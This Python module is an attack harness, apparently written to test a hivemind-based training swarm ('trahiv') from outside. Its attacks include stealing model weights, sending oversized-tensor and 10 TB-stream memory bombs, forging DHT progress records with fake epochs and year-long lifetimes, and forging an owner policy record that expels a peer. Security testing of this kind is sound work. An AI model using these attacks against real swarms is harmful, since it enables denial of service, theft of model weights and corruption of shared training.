"""An attacker: plain hivemind, an address, and what everybody can read about how a swarm works.

Nothing of trahiv is imported: what is tested is not used to test it.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hivemind.dht.crypto import RSASignatureValidator
from hivemind.dht.routing import DHTID
from hivemind.dht.validation import DHTRecord
from hivemind.p2p import P2P, P2PDaemonError, P2PHandlerError, PeerID
from hivemind.proto import averaging_pb2, crypto_pb2, dht_pb2, runtime_pb2
from hivemind.utils import MSGPackSerializer, get_dht_time
from hivemind.utils.crypto import RSAPrivateKey

ANSWER_S = 20.0
DHT = "CorrectedProtocol"


class Attacker:
    """Calls a victim's handlers with whatever it likes.

    Args:
        p2p: connected to the victim.
        victim: its id.
        run: its run.
        certificate: shown before each call.
        key: RSA key of the attacker's identity, by which it signs records.
    """

    def __init__(self, p2p: P2P, victim: PeerID, run: str, certificate: bytes, key: RSAPrivateKey) -> None:
        self.p2p, self.victim, self.run, self.certificate, self.key = p2p, victim, run, certificate, key
        self.grads = f"{run}_grad_averager::ExactGradientAverager"
        self.state = f"{run}_state_averager::ExactStateAverager"

    async def call(self, handler: str, request: Any) -> bytes:
        """Call a handler that takes one message."""
        content = self.certificate + request.SerializeToString()
        return bytes(await self.p2p._client.call_unary_handler(self.victim, handler, content))

    async def stream(self, handler: str, request: Any) -> bytes:
        """Open a stream, send a message, and return the first that comes back."""
        _, reader, writer = await self.p2p._client.stream_open(self.victim, [handler])
        try:
            writer.write(self.certificate)
            message = request.SerializeToString()
            writer.write(P2P.MESSAGE_MARKER + len(message).to_bytes(8, "big") + message)
            await P2P.send_protobuf(P2P.END_OF_STREAM, writer)
            kind = await reader.readexactly(1)
            content = await reader.readexactly(int.from_bytes(await reader.readexactly(8), "big"))
        finally:
            writer.close()
        if kind == P2P.ERROR_MARKER:
            raise P2PHandlerError(content.decode(errors="replace"))
        return content

    # -- what a stranger tries ---------------------------------------------------------------------

    async def ping(self) -> None:
        """Say hello."""
        await self.call(f"{DHT}.rpc_ping", dht_pb2.PingRequest())

    async def read_records(self) -> None:
        """Ask for what is stored in the DHT."""
        await self.call(f"{DHT}.rpc_find", dht_pb2.FindRequest(keys=[self._key()], peer=dht_pb2.NodeInfo()))

    async def take_the_state(self) -> None:
        """Download weights."""
        content = await self.call(f"{self.state}.rpc_offer_state", _data(b"", [0, b""], 0))
        offer = averaging_pb2.DownloadData.FromString(content)
        _, digest = MSGPackSerializer.loads(offer.metadata)
        await self.stream(f"{self.state}.rpc_send_state", _data(digest, 0, 1))

    async def join_a_group(self) -> None:
        """Ask to be averaged with."""
        request = averaging_pb2.JoinRequest(schema_hash=b"x", expiration=get_dht_time() + 60)
        await self.stream(f"{self.grads}.rpc_join_group", request)

    async def send_a_part(self) -> None:
        """Send something to be averaged: eight bytes that say that they are 64 MB."""
        bomb = runtime_pb2.Tensor(size=[1], dtype="(2000000,)f8", buffer=bytes(8))
        part = averaging_pb2.AveragingData(
            code=averaging_pb2.PART_FOR_AVERAGING, group_id=b"x", weight=1e6, tensor_part=bomb
        )
        await self.stream(f"{self.grads}.rpc_aggregate_part", part)

    async def claim_10_tb(self) -> None:
        """Begin a message that is longer than any memory."""
        handler = f"{self.grads}.rpc_aggregate_part"
        _, reader, writer = await self.p2p._client.stream_open(self.victim, [handler])
        try:
            writer.write(self.certificate + P2P.MESSAGE_MARKER + (10**13).to_bytes(8, "big"))
            for _ in range(64):
                writer.write(bytes(2**20))
                await writer.drain()
                if reader.at_eof():
                    break
            with contextlib.suppress(TimeoutError):  # the victim waits for more
                async with asyncio.timeout(3):
                    said = await reader.read(1)
                raise P2PHandlerError("the victim says something" if said else "the stream was closed")
        finally:
            writer.close()

    # -- records -----------------------------------------------------------------------------------

    def _key(self) -> bytes:
        return bytes(DHTID.generate(source=f"{self.run}_progress").to_bytes())

    async def store(self, value: Any, *, ttl_s: float = 60.0, key: bytes | None = None) -> None:
        """Store a record at the victim; else in the place of this attacker's progress.

        Raises:
            P2PHandlerError: it does not keep it.
        """
        validator = RSASignatureValidator(self.key)
        place = validator.local_public_key
        if self.certificate:
            place += b"~" + base64.urlsafe_b64encode(self.certificate).rstrip(b"=")
        expires = get_dht_time() + ttl_s
        content = MSGPackSerializer.dumps(value)
        record = DHTRecord(key or self._key(), MSGPackSerializer.dumps(place), content, expires)
        request = dht_pb2.StoreRequest(
            keys=[record.key],
            subkeys=[record.subkey],
            values=[validator.sign_value(record)],
            expiration_time=[expires],
            in_cache=[False],
            peer=dht_pb2.NodeInfo(),
        )
        answer = dht_pb2.StoreResponse.FromString(await self.call(f"{DHT}.rpc_store", request))
        if not answer.store_ok or not answer.store_ok[0]:
            raise P2PHandlerError("the record was not kept")

    def report(self, **changed: Any) -> dict[str, Any]:
        """A progress record like those of others, except for what is `changed`."""
        return {
            "peer_id": self.p2p.peer_id.to_bytes(),
            "epoch": 0,
            "samples_accumulated": 0,
            "samples_per_second": 1.0,
            "time": get_dht_time(),
            "client_mode": False,
            "samples_committed": 0,
            "history": bytes(16),
            "leases": [],
            "rounds": b"",
            "states": b"",
        } | changed

    async def decide_in_the_owner_s_place(self) -> None:
        """Take the victim out of its own swarm, in a record that comes after all of the owner's."""
        out = hashlib.sha256(self.victim.to_bytes()).digest()[:8]
        content = MSGPackSerializer.dumps([2**40, 0, out, b"", b""])
        signature = Ed25519PrivateKey.generate().sign(b"trahiv: the owner decides " + content)
        await self.store(signature + content, key=DHTID.generate(source="trahiv_policy").to_bytes())


def _data(*content: object) -> averaging_pb2.DownloadData:
    return averaging_pb2.DownloadData(metadata=MSGPackSerializer.dumps(list(content)))


ATTACKS: dict[str, Callable[[Attacker], Awaitable[Any]]] = {
    **{
        method.__name__: method
        for method in (
            *(Attacker.ping, Attacker.read_records, Attacker.take_the_state, Attacker.join_a_group),
            *(Attacker.send_a_part, Attacker.claim_10_tb, Attacker.decide_in_the_owner_s_place),
        )
    },
    "write_a_record": lambda one: one.store(one.report()),
    "claim_step_1000000": lambda one: one.store(
        one.report(epoch=10**6, samples_committed=10**9, history=b"\xff" * 16)
    ),
    # nobody could ever overwrite it
    "store_for_a_year": lambda one: one.store(one.report(), ttl_s=365 * 86400.0),
}


async def attack(
    address: str, run: str, key_file: str, certificate: bytes, names: list[str]
) -> AsyncIterator[tuple[str, str]]:
    """Make attacks, one after the other; yield what came of each: `answered`, or the error.

    Args:
        address: of the victim.
        run: its run.
        key_file: the attacker's identity.
        certificate: see `Attacker`.
        names: of `ATTACKS`.
    """
    p2p = await P2P.create(
        initial_peers=[address], dht_mode="client", no_listen=True, identity_path=key_file, auto_nat=False
    )
    key = RSAPrivateKey()
    with open(key_file, "rb") as file:
        key.__setstate__({"_private_key": crypto_pb2.PrivateKey.FromString(file.read()).data})
    victim = PeerID.from_base58(address.rpartition("/p2p/")[2])
    attacker = Attacker(p2p, victim, run, certificate, key)
    try:
        for name in names:
            try:
                async with asyncio.timeout(2 * ANSWER_S):
                    await ATTACKS[name](attacker)
                yield name, "answered"
            except (P2PHandlerError, P2PDaemonError, TimeoutError, OSError, EOFError) as error:
                yield name, f"{type(error).__name__}: {error}"
    finally:
        await p2p.shutdown()
